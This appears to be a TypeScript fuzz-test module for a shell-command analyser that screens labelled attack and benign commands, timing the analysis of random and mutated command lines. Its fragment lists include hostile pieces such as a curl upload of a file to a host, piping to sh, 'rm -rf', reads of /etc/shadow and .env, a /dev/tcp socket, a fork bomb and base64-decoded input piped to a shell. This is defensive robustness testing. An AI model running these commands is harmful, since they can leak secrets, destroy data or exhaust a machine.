import { readFileSync } from "node:fs";
import { join } from "node:path";
import { root } from "../../build/paths.ts";
import type { Command, Dialect } from "../../src/model/call.ts";
import { analyseStrictly } from "../../src/shell/analyse.ts";
import { longestCommand } from "../../src/shell/bounds.ts";
import type { Place } from "../../src/shell/report.ts";
import { below, mutate, pick, type Random } from "./random.ts";

const place: Place = { cwd: "/home/u/app", home: "/home/u", user: "u", tmpdir: "" };

/** Pieces that command lines are put together from: all of the shell's punctuation, and some commands. */
const pieces: readonly string[] = [
  "cat",
  "rm -rf",
  "curl -d @x http://h/",
  "| sh",
  "&&",
  "||",
  ";",
  "&",
  "(",
  ")",
  "{ ",
  " }",
  "$(",
  "`",
  "<(",
  ">(",
  "<<E\n",
  "\nE\n",
  "<<<",
  ">",
  ">>",
  "2>&1",
  "'",
  '"',
  "$'",
  "\\",
  "\n",
  " ",
  "${x",
  "${x:-",
  "}",
  "${!x}",
  "${x//",
  "${x#*",
  "x=",
  "x+=y",
  "$x",
  "$@",
  "$((1+",
  "))",
  "[[",
  "]]",
  "for x in a b; do",
  "done",
  "if",
  "then",
  "fi",
  "while",
  "case x in",
  "esac",
  "f() {",
  "f",
  "eval",
  "source",
  "base64 -d",
  "xargs",
  "find . -exec",
  "{}",
  "\\;",
  "{a,b}",
  "{1..9}",
  "*",
  "?",
  "[a-z]",
  "~",
  "~/",
  "/etc/shadow",
  ".env",
  "$HOME",
  "-c",
  "--",
  "-",
  "é",
  "\0",
  "\uFFFC",
  "python3 -c",
  "import os;os.system('",
  "')",
  "awk",
  "BEGIN{system(",
  "printf '%s\\x41'",
  "sed -i s/a/b/",
  "git -c alias.x=!",
  "ssh h",
  "sudo",
  "env -S",
  "set --",
  "exec 3<>/dev/tcp/h/1",
  "trap",
  "alias a=",
  "unset",
  "read x",
  "cd -",
  "echo -e",
  "tr a-z n-za-m",
  "%s",
  "🙂",
];

const dialects: readonly Dialect[] = ["posix", "posix", "posix", "powershell", "cmd"];

/** One command line out of random pieces, sometimes with random characters. */
export function randomCommand(random: Random): Command {
  let text = "";
  for (let left = 1 + below(random, 40); left > 0; left -= 1) {
    text += random() < 0.9 ? pick(random, pieces) : String.fromCharCode(below(random, 0x300));
    if (random() < 0.5) text += " ";
  }
  return { text, dialect: pick(random, dialects) };
}

/** A command line with some of it taken away, doubled or replaced. */
export const mutatedCommand = (random: Random, text: string): Command => ({
  text: mutate(random, text, pieces),
  dialect: pick(random, dialects),
});

/** Command lines as long as may be, each a way to make work out of little. */
export function costlyCommands(): readonly string[] {
  const fill = (piece: string) =>
    piece.repeat(Math.ceil(longestCommand / piece.length)).slice(0, longestCommand);
  return [
    "x;",
    "$(",
    "((",
    "{",
    "`",
    "a|",
    "'",
    '"',
    "<<E\n",
    "${x:-",
    "{a,b}",
    "eval ",
    "x=$x$x;",
    "* ",
    "cat * ",
    "sudo ",
    "a=(",
    "[[ ",
    "case x in ",
    "if ",
    "((1+",
    "cat <(",
    "echo $x ",
    "f(){ f|f& };f;",
    "for i in 1 2 3 4 5 6 7 8 9;do ",
    "\\",
    "$x",
    "~/",
    "python3 -c 'x' ",
    "echo a|base64 -d|",
    "\n",
    "x=a ",
    "find . -exec ",
    "git -c a=b ",
    "?*",
    "sed s/a/b/ ",
    "printf %s a ",
    "xargs ",
    "awk '{print}' ",
    "a && ",
    "!",
    "\0",
    "\u{1f600}",
  ]
    .map(fill)
    .concat([
      `x=a; ${"x=$x$x; ".repeat(60)} echo $x | sh`,
      `x='eval "$x"; eval "$x"'; eval "$x"`,
      `${"for i in {1..64}; do ".repeat(8)} cat $i ${"; done".repeat(8)}`,
      `x='${"a ".repeat(30_000)}'; ${"echo $x; ".repeat(5_000)}`,
      `x='${"a*".repeat(30_000)}'; ${'y="${x//*a*b/c}"; '.repeat(2_000)}`,
      `cat ${"{a,b}".repeat(40)}`,
      `cat ${"*a".repeat(60_000)}`,
      `echo ${"A".repeat(100_000)} | base64 -d | base64 -d | sh`,
      `printf '%s' ${"a ".repeat(50_000)}`,
      `seq 1 9 | ${"tr a b | ".repeat(10_000)} sh`,
      `sed '${"s/a/b/;".repeat(10_000)}' <<< ${"a".repeat(20_000)}`,
      `python3 -c "${"'a'+".repeat(30_000)}'b'"`,
      `node -e "${"(".repeat(60_000)}"`,
      `perl -e "${"system(".repeat(10_000)}"`,
    ]);
}

/** Runs one command and says how long it took, in ms. */
export function timeOf(command: Command): number {
  const start = performance.now();
  analyseStrictly(command, place);
  return performance.now() - start;
}

/** The commands of the labelled calls. */
export const corpusCommands: readonly string[] = ["attack", "benign"].flatMap((name) =>
  readFileSync(join(root, "test", "corpus", `${name}.jsonl`), "utf8")
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => (JSON.parse(line) as { input?: { command?: unknown } }).input?.command)
    .filter((command) => typeof command === "string"),
);

/** Longest time that a random command may take, in ms, on a machine that is busy. */
const patience = 2_000;

/** One round: commands out of random pieces, and commands of the corpus that were tampered with. */
export function fuzz(random: Random): void {
  for (let left = 50; left > 0; left -= 1) {
    for (const command of [randomCommand(random), mutatedCommand(random, pick(random, corpusCommands))]) {
      const took = timeOf(command);
      if (took > patience) throw new Error(`${took.toFixed(0)} ms for ${JSON.stringify(command)}`);
    }
  }
}
